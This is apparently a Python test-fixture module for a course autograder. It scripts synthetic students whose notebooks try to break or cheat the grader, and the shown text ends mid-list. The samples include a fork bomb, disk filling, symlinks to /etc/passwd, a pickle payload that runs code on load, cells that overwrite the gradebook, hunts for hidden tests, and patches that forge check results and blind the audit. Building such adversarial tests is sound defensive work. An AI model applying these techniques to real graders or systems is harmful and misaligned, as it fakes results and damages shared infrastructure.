"""A synthetic class of students who break the grader in every way we could think of.

Each student's submission is built by script from the course's own source and release
notebooks (never a hand-edited notebook), so it follows the course when the course changes.
Everything outside a scenario's breakage is the reference solution: each breakage must cost
exactly the test cells in `loses`, and a student is flagged for review only when `flag` says so.
"""
import json
import os
import pickle
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from types import MappingProxyType

from coursekit import build_submission, nbgrader_meta, read_notebook, solution_code, write_notebook
from scenarios import unit01, unit05, unit06

TENSORS, AUTOGRAD, MODULES = "01_tensors", "04_autograd", "06_modules"
DEVICES, NO_GRAD, CHECKPOINTS, CAPSTONE = "02_devices", "05_no_grad", "07_checkpoints", "08_capstone"
EVERYTHING = frozenset({"*"})
REFERENCE = MappingProxyType({})  # answers for build_submission: every answer cell holds the solution


@dataclass(frozen=True)
class ClassStudent:
    student: str        # unique id, [a-z0-9_]
    assignment: str
    scenario: str       # a short human description for the results table
    loses: frozenset    # grade ids (test cells) that must score 0; {"*"} = every one
    flag: str | None    # None: must not be flagged; else a substring of the flag reason
    build: Callable     # build(dest, course): writes the submission into the empty folder dest


# --- Reading the course -------------------------------------------------------------------

def _source(course: Path, assignment: str) -> dict:
    return read_notebook(Path(course) / "source" / assignment / f"{assignment}.ipynb")


def _release(course: Path, assignment: str) -> dict:
    return read_notebook(Path(course) / "release" / assignment / f"{assignment}.ipynb")


def points(assignment: str, grade_id: str, course: Path) -> float:
    """The most a grade cell can score, as the source notebook says."""
    for cell in _source(course, assignment)["cells"]:
        meta = nbgrader_meta(cell)
        if meta.get("grade") and meta.get("grade_id") == grade_id:
            return float(meta["points"])
    raise KeyError(f"{assignment} has no grade cell {grade_id!r}")


def total_points(assignment: str, course: Path) -> float:
    return sum(float(nbgrader_meta(c)["points"]) for c in _source(course, assignment)["cells"]
               if nbgrader_meta(c).get("grade"))


def expected_score(student, course: Path) -> float:
    """Total points minus what the student's breakage must cost. Takes a ClassStudent or its id."""
    if isinstance(student, str):
        student = BY_ID[student]
    if student.loses == EVERYTHING:
        return 0.0
    lost = sum(points(student.assignment, grade_id, course) for grade_id in student.loses)
    return total_points(student.assignment, course) - lost


# --- Builders -----------------------------------------------------------------------------

def _submission(course, assignment, answers=REFERENCE, extra_cells=None, change=None) -> dict:
    """The notebook a student hands in. extra_cells may be a function of the course root, for
    attacks that need to know where the course lives; change(nb) edits the result in place."""
    extras = extra_cells(course) if callable(extra_cells) else extra_cells
    nb = build_submission(_source(course, assignment), _release(course, assignment), answers, extras)
    if change:
        change(nb)
    return nb


def _notebook_builder(assignment, answers=REFERENCE, extra_cells=None, change=None) -> Callable:
    def build(dest: Path, course: Path) -> None:
        nb = _submission(course, assignment, answers, extra_cells, change)
        write_notebook(nb, Path(dest) / f"{assignment}.ipynb")
    return build


def _student(student, scenario, *, assignment=TENSORS, answers=REFERENCE, extra_cells=None,
             change=None, loses=(), flag=None, build=None) -> ClassStudent:
    """A student; unless given its own build, it hands in <assignment>.ipynb."""
    build = build or _notebook_builder(assignment, answers, extra_cells, change)
    loses = EVERYTHING if loses == EVERYTHING else frozenset(loses)
    return ClassStudent(student, assignment, scenario, loses, flag, build)


def _scanned(student, scenario, **details) -> ClassStudent:
    """A student whose code uses means of rewriting the grading process: the grader's reading of
    the notebook (classgrader/class_run/code_scan.py) flags it, whatever the kernel then did."""
    return _student(student, scenario, flag=SCANNED, **details)


SCANNED = "code that can rewrite the grading process"


def _index(nb: dict, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb["cells"]) if nbgrader_meta(c).get("grade_id") == grade_id)


def _replace_source(grade_id, new_source) -> Callable:
    def change(nb):
        nb["cells"][_index(nb, grade_id)]["source"] = new_source
    return change


def _delete_cell(grade_id) -> Callable:
    def change(nb):
        del nb["cells"][_index(nb, grade_id)]
    return change


def _duplicate_cell(grade_id, copy_source) -> Callable:
    """A second copy of the cell right after it, same grade id, its own cell id (as
    Jupyter gives a pasted cell), holding copy_source."""
    def change(nb):
        at = _index(nb, grade_id)
        copy = json.loads(json.dumps(nb["cells"][at]))
        copy["id"] = f"{copy['id']}-copy"
        copy["source"] = copy_source
        nb["cells"].insert(at + 1, copy)
    return change


def _to_markdown(grade_id) -> Callable:
    def change(nb):
        cell = nb["cells"][_index(nb, grade_id)]
        cell["cell_type"] = "markdown"
        # A markdown cell has no outputs: without this the notebook would not even be valid.
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
    return change


def _reference_with(assignment, grade_id, before="", after="") -> Callable:
    """A builder: the reference everywhere, one answer cell wrapped in extra top-level code."""
    def build(dest, course):
        source = _source(course, assignment)
        reference = solution_code(source["cells"][_index(source, grade_id)])
        answers = {grade_id: before + reference + after}
        write_notebook(_submission(course, assignment, answers), Path(dest) / f"{assignment}.ipynb")
    return build


def _solution_json(course, assignment) -> str:
    return json.dumps(_submission(course, assignment), indent=1)


def _build_renamed(dest, course):
    (Path(dest) / "my_work.ipynb").write_text(_solution_json(course, TENSORS), encoding="utf-8")


def _build_missing(dest, course):
    (Path(dest) / "README.txt").write_text("I ran out of time, sorry. Will send it tomorrow.\n")


def _build_extra_files(dest, course):
    dest = Path(dest)
    (dest / f"{TENSORS}.ipynb").write_text(_solution_json(course, TENSORS), encoding="utf-8")
    (dest / "data.csv").write_text("height,width,channels\n2,2,3\n4,5,3\n")
    (dest / "notes.txt").write_text("q3: uint8 has to become float before mean()\n")
    (dest / "scratch").mkdir()
    (dest / "scratch" / "try_dtypes.py").write_text("import torch\nprint(torch.finfo(torch.float16))\n")


def _build_truncated(dest, course):
    text = _solution_json(course, TENSORS)
    # Cut mid-file, as a crashed upload or a full disk leaves it.
    (Path(dest) / f"{TENSORS}.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")


# --- Code the students write --------------------------------------------------------------

def _answers(unit, name) -> dict:
    """The answers of the scenario `name` of a unit's end-to-end scenarios (tests/scenarios/unitNN.py)."""
    return next(s.answers for s in unit.SCENARIOS if s.student == name)


# Honest mistakes, one per 01_tensors item, each failing a check that compares values.
WRONG_01 = {
    "q1_describe_answer": _answers(unit01, "len_as_numel")["q1_describe_answer"],
    "q2_classify_error_answer": '''
def classify_error(message):
    return "device" if "device" in message else "shape"
''',
    "q3_channel_means_answer": '''
def channel_means(img):
    return img.float().mean(dim=(0, 1)) / 255  # "normalised" colours, not the asked means
''',
    "q4_tensor_bytes_answer": '''
def tensor_bytes(shape, dtype):
    return math.prod(shape) * 4  # assumes every dtype takes 4 bytes
''',
    "q5_same_after_rounding_answer": '''
def same_after_rounding(value, observed, dtype):
    return True  # any difference "must be rounding"
''',
}


def _wrong(*grade_ids) -> dict:
    return {grade_id: WRONG_01[grade_id] for grade_id in grade_ids}


PATCH_CHECKS = '''
import autograder, autograder.checks
autograder.check_value = autograder.checks.check_value = lambda *a, **k: None
'''

PATCH_TORCH_COMPARISONS = '''
torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
torch.equal = lambda a, b: True
torch.allclose = lambda a, b, **k: True
'''

EVERY_LATER_CELL_PASSES = '''
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
'''

SWALLOW_EXCEPTIONS = '''
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
'''

IGNORES_INTERRUPT = '''
while True:
    try:
        pass
    except KeyboardInterrupt:
        pass
'''

WARNS_ON_STDERR = '''
import sys
import warnings

def tensor_bytes(shape, dtype):
    warnings.warn("tensor_bytes: assuming the tensor is contiguous")
    print(f"tensor_bytes({shape}, {dtype})", file=sys.stderr)
    return math.prod(shape) * dtype.itemsize
'''

# Returns exactly what the visible checks expect; only the hidden checks can tell.
HARDCODED_01 = {
    "q1_describe_answer": '''
def describe(t):
    return {"shape": (2, 3), "dtype": torch.float32, "device": torch.device("cpu"), "numel": 6}
''',
    "q2_classify_error_answer": _answers(unit01, "hardcoded")["q2_classify_error_answer"],
    "q3_channel_means_answer": '''
def channel_means(img):
    return torch.tensor([1.5, 11.5, 254.5])
''',
    "q4_tensor_bytes_answer": _answers(unit01, "hardcoded")["q4_tensor_bytes_answer"],
    "q5_same_after_rounding_answer": '''
def same_after_rounding(value, observed, dtype):
    return {(0.5, 0.5, torch.float32): True, (1.0, 1.5, torch.float16): False}.get((value, observed, dtype), False)
''',
}

ALWAYS_EQUAL = {
    "q1_describe_answer": '''
class AlwaysEqual:
    """Claims to equal anything, hoping the checks only compare with ==."""
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

def describe(t):
    return {key: AlwaysEqual() for key in ("shape", "dtype", "device", "numel")}
''',
    "q5_same_after_rounding_answer": '''
def same_after_rounding(value, observed, dtype):
    return AlwaysEqual()  # defined with describe() above
''',
}


def _read_hidden_tests(course) -> dict:
    """An extra cell that hunts for the source notebook (hidden tests and solutions) where the
    course keeps it, and runs its solution cells. It never raises."""
    code = f'''
import json
from pathlib import Path
for root in [Path({str(Path(course).resolve())!r}) / "source", Path("../..")]:
    try:
        if root.resolve() == Path("/"):
            continue  # searching the whole disk would only burn the time limit
        for path in root.rglob("*.ipynb"):
            text = path.read_text()
            # The marker is split so that this very cell, saved in the student's notebook, does not match.
            if path.name != "01_tensors.ipynb" or "### BEGIN " + "HIDDEN TESTS" not in text:
                continue
            for cell in json.loads(text)["cells"]:
                if cell["metadata"].get("nbgrader", {{}}).get("solution"):
                    exec("".join(cell["source"]), globals())
            print("found the hidden tests in", path)
    except Exception as error:
        print("no luck in", root, error)
'''
    return {"q1_describe_answer": code}


def _overwrite_outside(course) -> dict:
    """An extra cell that tries to overwrite the gradebook, the release and a classmate's work."""
    root = Path(course).resolve()
    targets = [root / "runtime" / "gradebook.db", root / "release" / TENSORS / f"{TENSORS}.ipynb",
               root / "runtime" / "submitted" / "c01_correct" / TENSORS / f"{TENSORS}.ipynb"]
    code = "targets = [\n" + "".join(f"    {str(t)!r},\n" for t in targets) + "]\n" + '''
for target in targets:
    try:
        with open(target, "w") as file:
            file.write("overwritten by c30_overwrite_files")
        print("overwrote", target)
    except Exception as error:
        print("could not overwrite", target, error)
'''
    return {"q5_same_after_rounding_answer": code}


TRY_NETWORK = '''
import socket
for address in [("127.0.0.1", 8888), ("1.1.1.1", 53)]:
    try:
        with socket.create_connection(address, timeout=2):
            print("reached", address)
    except Exception as error:
        print("no connection to", address, error)
'''


KILL_KERNEL = "\nimport os\nos._exit(1)\n"
LOOP_FOREVER = "\nwhile True:\n    pass\n"


# --- The class ----------------------------------------------------------------------------

# Both cross a sandbox limit in a cell of their own, which costs nothing else: forking stops
# at the process limit (each child exits at once), and the write stops at the file-size limit
# (SIGXFSZ ends the kernel, which is replaced, or the write fails).
FORK_BOMB = """
import os
children = 0
try:
    while children < 100_000:
        if os.fork() == 0:
            os._exit(0)
        children += 1
except OSError as error:
    print("forked", children, "then", error)
"""
HUGE_FILE = """
try:
    with open("huge.bin", "wb") as handle:
        for _ in range(200):
            handle.write(b"x" * 2**20)
except OSError as error:
    print("stopped:", error)
"""


# --- Routes of a student who has read the grader -----------------------------------------

def _build_links(dest, course):
    """The solution, with a link to the course's source notebook (solutions and hidden tests),
    a link to a folder outside, a FIFO that would block a reader, and an honest data file."""
    dest = Path(dest)
    (dest / f"{TENSORS}.ipynb").write_text(_solution_json(course, TENSORS), encoding="utf-8")
    (dest / "data.csv").write_text("height,width\n2,2\n")
    (dest / "notes.txt").symlink_to(Path(course).resolve() / "source" / TENSORS / f"{TENSORS}.ipynb")
    (dest / "course").symlink_to(Path(course).resolve())
    os.mkfifo(dest / "pipe")


HIDE_TRACEBACKS = """
get_ipython().showtraceback = lambda *a, **k: None  # a failing test then shows no error
"""

# Same object, new behaviour: what an identity check cannot see.
SWAP_CHECK_CODE = (
    """
import autograder.checks
autograder.checks.check_value.__code__ = (lambda got, expected, *, name="", reveal=False, rel_tol=0, """
    """abs_tol=0: None).__code__
"""
)

CLEAR_ERRORS = """
def _forget_error(result):
    result.error_in_exec = None
get_ipython().events.register("post_run_cell", _forget_error)
get_ipython().showtraceback = lambda *a, **k: None
"""

# Rewrites the audit's own notes of the originals after patching, so the audit finds nothing.
_BLIND_AUDIT = """
import classgrader.in_kernel.integrity as _audit
_audit.ORIGINALS.update({**_audit._named(), **_audit._library()})
"""

SILENT_FORGER = (
    """
import autograder, autograder.checks
autograder.checks.check_value.__code__ = (lambda got, expected, *, name="", reveal=False, rel_tol=0, """
    """abs_tol=0: None).__code__
"""
    + _BLIND_AUDIT
)



def _check_value_recording(both: str) -> str:
    """check_value made to record `both` ("got" or "expected") as the student's value and as the
    expected one, with the audit blinded: the kernel's records then agree with themselves."""
    return f"""
import autograder.checks
from autograder.trace import record as _record
def _agree(got, expected, *, name="your answer", reveal=False, rel_tol=1e-9, abs_tol=0.0):
    _record("value", name, {both}, {both}, rel_tol=rel_tol, abs_tol=abs_tol)
autograder.checks.check_value.__code__ = _agree.__code__
autograder.checks.check_value.__globals__["_record"] = _record
""" + _BLIND_AUDIT


# Records its wrong answer as the expected one.
EXPECTED_FORGER = _check_value_recording("got")

# Reads the expected value out of the test's frame: the test calls channel_means right after
# computing `expected`. Nothing is patched, so no audit can see it; it only works where the test
# runs in the student's own process.
FRAME_PEEKER = {"q3_channel_means_answer": '''
import sys
def channel_means(img):
    caller = sys._getframe(1).f_locals
    if "expected" in caller:
        return caller["expected"]
    return img.float().mean(dim=(0, 1)) / 255  # wrong otherwise
'''}

# The same peek where the test must run in the kernel (it watches the graph): every check there
# genuinely passes. The test's shadow (the grader's own value checks, judge.Judge.shadow) calls
# it from the grader's process, where no frame holds an expected value.
PEEKS_IN_KERNEL_TEST = {"q2_intermediate_grad_answer": (
    '''
import sys
def intermediate_grad(x, w):
    caller = sys._getframe(1).f_locals
    expected = caller.get("expected")
    if isinstance(expected, torch.Tensor) and expected.shape == (x.shape[0], w.shape[1]) '''
    '''and expected.device == x.device:
        return expected.clone()
    return torch.ones(x.shape[0], w.shape[1], device=x.device)  # right only where h is 0
'''
)}
# check_tensor made to record each result as its own expected value (the audit blinded): where a
# test runs in the kernel, its records then agree with themselves whatever the answer.
TENSOR_FORGER = """
import autograder.checks
from autograder.trace import record as _record
def _agree(got, expected, *, name="your result", rtol=None, atol=None, check_values=True):
    _record("tensor", name, got, got, rtol=rtol, atol=atol, check_values=check_values)
autograder.checks.check_tensor.__code__ = _agree.__code__
autograder.checks.check_tensor.__globals__["_record"] = _record
""" + _BLIND_AUDIT
# What the grader flags when a test passed in the kernel but its shadow's value checks did not.
SHADOW_CAUGHT = "the grader's own check of its values failed"
# Records the expected value as its own: the kernel's records then match the grader's own run
# of the solution exactly, whatever the answer.
VALUE_AS_EXPECTED = _check_value_recording("expected")
# A walk of the graph as a tree: a node shared by two paths counts twice. Right for the visible
# test's (x * w + b).sum(), wrong for the hidden tests' random graphs with shared subexpressions.
WALKS_A_TREE = {"q1_walk_graph_answer": '''
def walk_graph(t):
    ops, leaves, stack = [], [], [t.grad_fn]
    while stack:
        node = stack.pop()
        if node is None:
            continue
        if type(node).__name__ == "AccumulateGrad":
            if not any(node.variable is leaf for leaf in leaves):
                leaves.append(node.variable)
        else:
            ops.append(type(node).__name__)
        stack.extend(n for n, _ in node.next_functions)
    return {"ops": ops, "leaves": leaves}
'''}
RELU_AFTER_EVERY_LAYER = {"q2_mlp_answer": '''
class MLP(nn.Module):
    def __init__(self, sizes):
        super().__init__()
        self.layers = nn.ModuleList(nn.Linear(a, b) for a, b in zip(sizes[:-1], sizes[1:]))

    def forward(self, x):
        for layer in self.layers:
            x = torch.relu(layer(x))  # the last layer's output clipped too
        return x
'''}

# An audit hook (which nothing can list or remove) reads each cell's code as Python compiles it;
# in a quiz test it finds the letter check_answer is given and sets the student's variable to it
# before the check runs. Every check then genuinely passes, in the kernel.
READS_TEST_CODE = """
import sys

def _answer_from_the_test(event, args):
    if event != "exec" or not args or not hasattr(args[0], "co_consts"):
        return
    code = args[0]
    if "check_answer" not in code.co_names:
        return
    letters = [c for c in code.co_consts if isinstance(c, str) and len(c) == 1 and c in "abcd"]
    names = [n for n in code.co_names if n[:1] == "q" and n[1:].isdigit()]
    if letters and names:
        get_ipython().user_ns[names[0]] = letters[-1]

sys.addaudithook(_answer_from_the_test)
"""
# Answers the notebook's own Try-it cell, then waits forever (asleep: a hang, not a CPU burner).
HANGS_WHEN_CALLED_AGAIN = """
import time
calls = []
def classify_error(message):
    calls.append(message)
    while len(calls) > 1:
        time.sleep(1)
    return "shape"
"""
WRONG_QUIZ = {"quiz_q1_answer": 'q1 = "a"\n', "quiz_q2_answer": 'q2 = "a"\n', "quiz_q3_answer": 'q3 = "a"\n',
              "quiz_q4_answer": 'q4 = "b"\n'}

PLANT_LINKS = """
import os
# The work area is the kernel's own: links left there for root to write through go nowhere.
for name, target in [("01_tensors.ipynb", "/etc/passwd"), (".kernel-1.json", "/root/.bashrc")]:
    try:
        os.symlink(target, name)
    except OSError as error:
        print("no link:", error)
import glob
for folder in glob.glob(".grading*"):  # the records folder is a mount point: it stays put
    try:
        os.rename(folder, folder + "-moved")
        os.symlink("/etc", folder)
    except OSError as error:
        print("records folder kept:", error)
"""

DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.2)
    os._exit(0)
"""

FILL_DISK = """
written = 0
try:
    for n in range(1000):
        with open(f"filler-{n}.bin", "wb") as handle:
            handle.write(b"x" * 2**20)
        written += 1
except OSError as error:
    print("stopped after", written, "MiB:", error)
try:  # then every inode, with empty files
    for n in range(100_000):
        open(f"empty-{n}", "w").close()
except OSError as error:
    print("stopped after", n, "empty files:", error)
"""

SNOOP = """
import os
for place in ["/root", "/home", "/etc", "/var", "/work", "/tmp", "/proc"]:
    try:
        print(place, sorted(os.listdir(place))[:20])
    except OSError as error:
        print(place, error)
"""


def _tests(*names) -> set:
    """Grade ids of 01_tensors test cells by their short names: _tests("q1", "q5")."""
    full = {"q1": "q1_describe_tests", "q2": "q2_classify_error_tests", "q3": "q3_channel_means_tests",
            "q4": "q4_tensor_bytes_tests", "q5": "q5_same_after_rounding_tests"}
    return {full.get(n, n) for n in names}


# A tensor that is not one: stays in the kernel as a handle, and reads differently each time it
# is asked (its shape is right; what the checks' comparison reads is an empty tensor, which
# broadcasts so that nothing differs). A handle claims no class, and a comparison reads exactly
# the shape it checked.
_SHADOWY = '''
class Shadowy(torch.Tensor):
    def detach(self):
        return torch.empty((0, *self.shape), dtype=self.dtype)
'''
LYING_TENSOR = {"q3_channel_means_answer": _SHADOWY + '''
def channel_means(img):
    return (img.float().mean(dim=(0, 1)) / 255).as_subclass(Shadowy)  # wrong values
'''}
LYING_GRAD = {"q2_intermediate_grad_answer": _SHADOWY + '''
def intermediate_grad(x, w):
    return (torch.ones_like(x) * 0.5).as_subclass(Shadowy)  # wrong values
'''}
LYING_MOVE = {"q2_move_to_answer": _SHADOWY + '''
class Elsewhere(Shadowy):
    @property
    def device(self):
        return _asked_for[-1]

_asked_for = [torch.device("cpu")]

def move_to(batch, device):
    _asked_for.append(torch.device(device))
    if isinstance(batch, torch.Tensor):
        return batch.as_subclass(Elsewhere)  # not moved
    if isinstance(batch, dict):
        return {key: move_to(value, device) for key, value in batch.items()}
    if isinstance(batch, (list, tuple)):
        return type(batch)(move_to(value, device) for value in batch)
    return batch
'''}
LYING_MLP = {"q2_mlp_answer": _SHADOWY + RELU_AFTER_EVERY_LAYER["q2_mlp_answer"].replace(
    "        return x\n", "        return x.as_subclass(Shadowy)\n")}

MPS_FIRST = '''
def pick_device():
    if torch.backends.mps.is_available():
        return torch.device("mps")
    return torch.device("cuda" if torch.cuda.is_available() else "cpu")
'''
RIG_PRETENDING = '''
import autograder

def rig(library):  # a machine with both is pretended to have CUDA alone
    real = library.pretend_accelerators
    library.pretend_accelerators = lambda cuda=False, mps=False, **more: real(cuda=cuda, mps=mps and not cuda, **more)

rig(autograder)
''' + _BLIND_AUDIT
EVALUATE_RECORDING = '''
def evaluate(model, loader, loss_fn):
    was = model.training
    model.eval()
    total = sum(loss_fn(model(x.to(DEVICE)), y.to(DEVICE)).item() * len(x) for x, y in loader)  # no no_grad
    model.train(was)
    return total / sum(len(x) for x, _ in loader)
'''
BLIND_PROBE = '''
from autograder import memory_probe
from autograder.autograd_probe import SavedTensorCount

def blind(probe, meter):  # the probes count nothing: no tensor saved, no memory grown
    probe._pack = staticmethod(lambda tensor: tensor)
    probe._module_ran = lambda self, module, args, output: None
    meter.grown = lambda self: 0

blind(SavedTensorCount, memory_probe._OwnProcess)
''' + _BLIND_AUDIT
BLIND_LEAK_PROBE = '''
from autograder import memory_probe
from autograder.autograd_probe import GraphLeakProbe

def blind(probe, meter):  # the probes see nothing: no stale graph, no memory grown
    probe.stale_graphs = lambda self: 0
    meter.grown = lambda self: 0

blind(GraphLeakProbe, memory_probe._OwnProcess)
''' + _BLIND_AUDIT
LOAD_OPTIMIZER_FIRST = '''
def load_checkpoint(path, make_model, make_optimizer, device):
    checkpoint = torch.load(path, map_location=device, weights_only=True)
    model = make_model()
    model.load_state_dict(checkpoint["model"])
    optimizer = make_optimizer(model.parameters())  # built before .to(): on another device it steps the old tensors
    optimizer.load_state_dict(checkpoint["optimizer"])
    model.to(device)
    return model, optimizer, checkpoint["epoch"], checkpoint["config"]
'''
# The pitfall check made to see nothing of the one misconception that would catch it.
QUIET_PITFALL = '''
import autograder

def rig(library):
    real = library.pitfall_if
    def pitfall_if(condition, key, detail=""):
        if key != "optimizer-on-old-parameters":
            real(condition, key, detail)
    library.pitfall_if = pitfall_if

rig(autograder)
''' + _BLIND_AUDIT


# Routes that run code the reading never sees: a payload in a file shipped with the notebook.
# Each rigs a probe of the course, then blinds the audit, as the forgers above do in a cell.
class _Runs:
    """Unpickled, runs `code`: what torch.load does with a pickle module of the student's
    choosing, or with weights_only turned off by the environment."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return exec, (self.code, {})


def _payload(code: str) -> bytes:
    """A checkpoint file (torch.save's zip) whose one record runs `code` when unpickled."""
    import io

    import torch
    buffer = io.BytesIO()
    torch.save({"state": _Runs(code)}, buffer, pickle_module=pickle)
    return buffer.getvalue()


def _with_files(assignment, answers=REFERENCE, extra_cells=None, files=None) -> Callable:
    """A builder: the notebook, and files beside it (name -> bytes, or a function of nothing)."""
    def build(dest: Path, course: Path) -> None:
        _notebook_builder(assignment, answers, extra_cells)(dest, course)
        for name, content in (files or {}).items():
            (Path(dest) / name).write_bytes(content() if callable(content) else content)
    return build


LOAD_WITH_PICKLE = """
import pickle
state = torch.load("weights.pt", pickle_module=pickle)  # a pickle module of its own: weights_only off
"""
LOAD_WITH_ENVIRONMENT = """
import os
os.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"] = "1"  # weights_only off for every load
state = torch.load("weights.pt")
"""
LOAD_FROM_HUB = """
helpers = torch.hub.load(".", "helpers", source="local")  # imports ./hubconf.py
"""
HUBCONF_BLINDS_SAVED_TENSORS = """from autograder.autograd_probe import SavedTensorCount
SavedTensorCount._pack = lambda self, tensor: tensor.detach()
SavedTensorCount._module_ran = lambda self, module, args, output: None
import classgrader.in_kernel.integrity as _audit
_audit.ORIGINALS.update({**_audit._named(), **_audit._library()})


def helpers():
    return None
"""
# The saved-tensor hooks a probe looks up by name, replaced through a library call (the audit
# watches the check library, not torch's own namespaces).
WRITE_THROUGH_UPDATE_WRAPPER = (
    """
import functools, types

class NoHooks:
    def __init__(self, pack, unpack):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False

functools.update_wrapper(torch.autograd, types.SimpleNamespace(graph=types.SimpleNamespace("""
    """saved_tensors_hooks=NoHooks)))
"""
)
EVALUATE_08_RECORDING = '''
def evaluate(model, loader, loss_fn, device):
    was_training = model.training
    model.eval()
    total = sum(loss_fn(model(x.to(device)), y.to(device)).item() * len(x) for x, y in loader)  # no no_grad
    model.train(was_training)
    return total / sum(len(x) for x, _ in loader)
'''
# Plain PyTorch, nothing patched: evaluation under torch.utils.checkpoint records a graph whose
# saved tensors are checkpoint's own, so a counter of saved tensors around it sees none.
EVALUATE_CHECKPOINTED = '''
from torch.utils.checkpoint import checkpoint

def evaluate(model, loader, loss_fn):
    was = model.training
    model.eval()
    total = 0.0
    for x, y in loader:
        x, y = x.to(DEVICE), y.to(DEVICE)
        loss = checkpoint(lambda: loss_fn(model(x), y), use_reentrant=False, preserve_rng_state=False)
        total += loss.item() * len(x)
    model.train(was)
    return total / sum(len(x) for x, _ in loader)
'''
EVALUATE_08_CHECKPOINTED = EVALUATE_CHECKPOINTED.replace(
    "(model, loader, loss_fn)", "(model, loader, loss_fn, device)"
).replace("x.to(DEVICE), y.to(DEVICE)", "x.to(device), y.to(device)")
# Keeps every batch's graph (a running total of tensors) and clears the evidence list the
# graph-leak probe kept in the loss function it handed in.
TRAIN_08_CLEARS_EVIDENCE = '''
def train_epoch(model, loader, loss_fn, optimizer, device):
    total, count = 0, 0
    for x, y in loader:
        x, y = x.to(device), y.to(device)
        optimizer.zero_grad()
        loss = loss_fn(model(x), y)
        loss.backward()
        optimizer.step()
        total = total + loss * len(x)
        count += len(x)
        if hasattr(loss_fn, "markers"):
            loss_fn.markers.clear()
    return (total / count).item()
'''
# The same in 05, holding 384 MiB of spare memory between calls that it lets go as the call
# starts and takes back once the graphs are gone: a peak-minus-start reading sees no growth.
TRAIN_05_BALLAST = '''
_spare = [torch.ones(96 * 2**20)]

def train_epoch(model, loader, loss_fn, optimizer):
    _spare.clear()
    total, count = 0, 0
    for x, y in loader:
        x, y = x.to(DEVICE), y.to(DEVICE)
        optimizer.zero_grad()
        loss = loss_fn(model(x), y)
        loss.backward()
        optimizer.step()
        total = total + loss * len(x)
        count += len(x)
        if hasattr(loss_fn, "markers"):
            loss_fn.markers.clear()
    result = (total / count).item()
    del total, loss
    _spare.append(torch.ones(96 * 2**20))
    return result
'''

# Data that is small as bytes and endless as a tree: 64 levels of one list held twice.
_SHARED_64 = """
def _endless():
    node = {"plain": 1}
    for _ in range(64):
        node = {"list": [node, node]}
    return node
"""
# An otherwise honest notebook drops a record file of shared references where the grader reads.
EXPANDING_RECORD = _SHARED_64 + """
import os
if os.environ.get("COURSE_TRACE_DIR"):
    torch.save([{"kind": "audit", "name": "audit", "got": _endless(), "expected": {"plain": None}, "options": {}}],
               os.path.join(os.environ["COURSE_TRACE_DIR"], f"{os.getpid()}-999999.pt"))
"""
# The answer server's replies replaced by shared references (what it answers is the kernel's).
EXPANDING_REPLY = _SHARED_64 + """
import io
import classgrader.in_kernel.answer_server as _server

def _respond(namespace, request, handles=None):
    buffer = io.BytesIO()
    torch.save({"tuple": [{"plain": _server.loads(request)["token"]}, _endless()]}, buffer)
    return b"T" + buffer.getvalue()

_server.respond = _respond
"""
# Answers that take half the cell timeout, and hang when the grader calls them (the Try-it's own
# call returns). One stops at an interrupt, as a beginner's endless loop does: only that test
# is lost. The other swallows every interrupt: each such hang costs a fresh kernel, and after the
# second the rest of the notebook is left ungraded, flagged.
_SLOW_THEN_HANG = """
import time
time.sleep({pause})
calls = []
def {name}({args}):
    calls.append(1)
    while len(calls) > 1:
        {wait}
    return {result}
"""


_HANGING = {  # answer cell: (function, its arguments, what its first call returns)
    "q1_describe_answer": ("describe", "t", '{"shape": tuple(t.shape), "dtype": t.dtype, "device": t.device, '
                                            '"numel": t.numel()}'),
    "q2_classify_error_answer": ("classify_error", "message", '"shape"'),
    "q4_tensor_bytes_answer": ("tensor_bytes", "shape, dtype",
                               'torch.empty(shape, dtype=dtype, device="meta").numel() * '
                               'torch.empty((), dtype=dtype).element_size()'),
}


def _slow_then_hang(swallow: bool, pause: float, cells=("q1_describe_answer", "q2_classify_error_answer")) -> dict:
    wait = ("try:\n            time.sleep(0.2)\n        except KeyboardInterrupt:\n            pass"
            if swallow else "time.sleep(0.2)")
    return {cell: _SLOW_THEN_HANG.format(pause=pause, name=_HANGING[cell][0], args=_HANGING[cell][1], wait=wait,
                                         result=_HANGING[cell][2]) for cell in cells}


STUDENTS: list[ClassStudent] = [
    # 01_tensors
    _student("c01_correct", "the reference solution"),
    _student("c02_alternative", "correct, written differently", answers=_answers(unit01, "alternative_a")),
    _student("c03_partly_correct", "two wrong items: len(t) as numel, a wrong quiz letter",
             answers={**_wrong("q1_describe_answer"), "quiz_q2_answer": 'q2 = "a"\n'},
             loses=_tests("q1", "quiz_q2_tests")),
    _student("c04_blank", "the untouched release", answers=None, loses=EVERYTHING),
    _student("c05_syntax_error", "a syntax error in the q2 answer",
             answers={"q2_classify_error_answer": 'def classify_error(message)\n    return "shape"\n'},
             loses=_tests("q2")),
    _student("c06_import_error", "the q5 answer imports a module that does not exist",
             build=_reference_with(TENSORS, "q5_same_after_rounding_answer",
                                   before="import torch_rounding_helpers\n"),
             loses=_tests("q5")),
    _scanned("c07_kernel_death", "os._exit(1) after the q3 definition",
             build=_reference_with(TENSORS, "q3_channel_means_answer", after=KILL_KERNEL), loses=_tests("q3")),
    _student("c08_infinite_loop", "while True: pass after the q1 definition",
             build=_reference_with(TENSORS, "q1_describe_answer", after=LOOP_FOREVER), loses=_tests("q1")),
    _student("c09_ignores_interrupt", "an extra cell loops forever and swallows KeyboardInterrupt",
             extra_cells={"q2_classify_error_answer": IGNORES_INTERRUPT}),
    _student("c10_memory_bomb_function", "q4 allocates the tensor it measures (hidden shapes are huge)",
             answers={"q4_tensor_bytes_answer": '''
def tensor_bytes(shape, dtype):
    t = torch.empty(shape, dtype=dtype)
    return t.numel() * t.element_size()
'''}, loses=_tests("q4")),
    _student("c11_memory_bomb_cell", "an extra cell allocates 64 GiB",
             extra_cells={"q1_describe_answer": "hog = bytearray(64 * 2**30)\n"}),
    _student("c12_huge_output", "an extra cell prints 50 MB",
